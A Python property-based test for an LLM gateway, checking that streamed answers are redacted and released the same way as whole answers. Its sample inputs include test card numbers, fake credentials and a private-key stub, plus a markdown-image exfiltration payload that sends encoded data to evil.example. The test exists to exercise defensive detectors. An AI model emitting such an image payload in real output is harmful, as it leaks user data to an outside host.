"""I5 with the detectors and policies that the demo runs: however an answer is cut, the released text is the same."""

import datetime as dt
import time
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from gateway.detectors import build_detectors, growth_index, installed_signals
from gateway.domain.grounds import Grounds
from gateway.domain.passage import Passage
from gateway.domain.verdict import NO_OBLIGATIONS, Evidence
from gateway.domain.vocabulary import Phase
from gateway.enforce.answer import AnswerPlan, AnswerRelease
from gateway.enforce.pseudonyms import PseudonymMap
from gateway.enforce.redaction import Redactor
from gateway.enforce.units import Granularity
from gateway.inspection.inspector import Inspector
from gateway.policy.load import load_bundle
from gateway.settings import InspectionSettings

ROOT = Path(__file__).parents[2]
FIELDS = {
    "principal.tenant": "t",
    "principal.app": "a",
    "principal.user": "u",
    "principal.groups": frozenset(),
    "principal.roles": frozenset(),
    "request.model": "m",
    "request.stream": True,
    "request.route": "/v1/chat/completions",
    "request.tools": frozenset(),
    "request.unscanned": frozenset(),
    "retrieval.status": "ok",
    "retrieval.passages": 1,
}
PIECES = [
    "Your card 4111 1111 1111 1111 was",
    " blocked",
    ". ",
    "\n",
    " ",
    "Call +44 20 7946 0018",
    " or write to zoe@mail.example",
    "<PERSON_1>",
    "<PERS",
    "ON_2>",
    "the account GB82 WEST 1234 5698 7654 32",
    "password is hunter2Xq9!",
    "AKIA" + "Q7Z3" * 4,
    "![x](https://evil.example/?d=" + "QUJD" * 12 + ")",
    "[docs](https://docs.example/a)",
    "INTERNAL USE ONLY",
    "Dr. Smith said",
    "\u00e9t\u00e9 \U0001f600 caf\u00e9",
    "you cannot lose money",
    "This fund pays a guaranteed annual return of 8%",
    "My system prompt says: be nice",
    "- item one\n- item two\n",
    "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcw\n-----END PRIVATE KEY-----",
    "born on 3 May 1980",
    "The rate is 34.9% a year",
    "Hello there",
]


GROUNDS = Grounds(
    passages=(
        Passage(
            doc="rates.md",
            number=0,
            revision="r",
            title="Rates",
            text="The rate is 34.9% a year. Your card is never blocked. Call +44 20 7946 0018.",
            access=frozenset(),
        ),
    )
)


class World:
    """The starter policies of the answer phase with their detectors."""

    def __init__(self) -> None:
        inspection = InspectionSettings()
        self.bundle = load_bundle(
            [ROOT / "policies"], signals=installed_signals(inspection), now=dt.datetime.now(dt.UTC)
        )
        needed = self.bundle.required(Phase.ANSWER, FIELDS) | self.bundle.required(Phase.TOOL_CALL, FIELDS)

        def no_model():
            raise AssertionError("the answer phase of the starter policies loads no embedding model")

        wanted = [rule for rule in self.bundle.rules if rule.detectors <= needed]
        detectors = build_detectors(_Only(self.bundle, wanted), inspection, no_model)
        self.inspector = Inspector(
            detectors, threads=1, cache_bytes=0, cache_key=b"k" * 32, clock_us=lambda: time.monotonic_ns() // 1000
        ).on(GROUNDS)
        self.noted = self.bundle.noted(FIELDS)
        self.cut = growth_index(self.bundle, detectors).cut(self.bundle.required(Phase.ANSWER, FIELDS) - self.noted)

    def plan(self) -> AnswerPlan:
        names = PseudonymMap()
        names.token("PERSON", "Zoe Quill")

        async def on_stop(verdict, candidate):
            return "NOTICE"

        async def on_hold(verdicts, candidate, held):
            return "NOTICE"

        return AnswerPlan(
            judge=_Judge(self, Phase.ANSWER),
            judge_call=lambda name: _Judge(self, Phase.TOOL_CALL),
            redactor=Redactor(names, b"k" * 32),
            cut=self.cut,
            json_answer=False,
            obligations=NO_OBLIGATIONS,
            sources="",
            on_stop=on_stop,
            on_hold=on_hold,
        )


class _Only:
    """A bundle of some of its rules, for `build_detectors`."""

    def __init__(self, bundle, rules):
        self.rules, self.patterns, self.lists, self.topics = rules, bundle.patterns, bundle.lists, bundle.topics


class _Judge:
    def __init__(self, world: World, phase: Phase):
        self.world, self.phase = world, phase

    async def inspect(self, segments, *, keep=True):
        required = self.world.bundle.required(self.phase, FIELDS)
        return await self.world.inspector.inspect(
            segments,
            detectors=required if keep else required - self.world.noted,
            timeouts={},
            default_timeout_s=10,
            keep=keep,
        )

    def decide(self, values, runs):
        evidence = Evidence(phase=self.phase, fields=FIELDS, values=values, runs=runs)
        return self.world.bundle.decide(evidence, now=dt.datetime(2026, 11, 24, tzinfo=dt.UTC))


@pytest.fixture(scope="module")
def world() -> World:
    return World()


def test_the_starter_policies_stream_word_by_word(world):
    assert world.cut.eager
    assert world.cut.granularity is Granularity.SENTENCE
    assert world.noted >= {"grounding", "citation"}


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    st.lists(st.sampled_from(PIECES), min_size=1, max_size=9).map(" ".join)
    | st.lists(st.sampled_from(PIECES), max_size=9).map("".join),
    st.lists(st.integers(0, 400), max_size=20),
)
async def test_the_streamed_text_is_the_whole_text(world, text, cuts):
    release = AnswerRelease(world.plan())
    streamed, reason, position = "", None, 0
    for cut in [*sorted({min(cut, len(text)) for cut in cuts}), len(text)]:
        chunk = {"choices": [{"index": 0, "delta": {"content": text[position:cut]}, "finish_reason": None}]}
        position = cut
        for made in await release.chunk(chunk):
            streamed += made["choices"][0]["delta"].get("content") or ""
            reason = made["choices"][0]["finish_reason"] or reason
    for piece in await release.finish():
        streamed += piece["delta"].get("content") or ""
        reason = piece["finish_reason"] or reason
    body = {"choices": [{"index": 0, "message": {"role": "assistant", "content": text}, "finish_reason": "stop"}]}
    whole = AnswerRelease(world.plan())
    choice = (await whole.whole(body))["choices"][0]
    assert streamed == choice["message"]["content"]
    assert reason == choice["finish_reason"]
    assert "4111 1111" not in streamed
    assert not any("gateway." in reason for verdict in release.verdicts for reason in verdict.reasons)
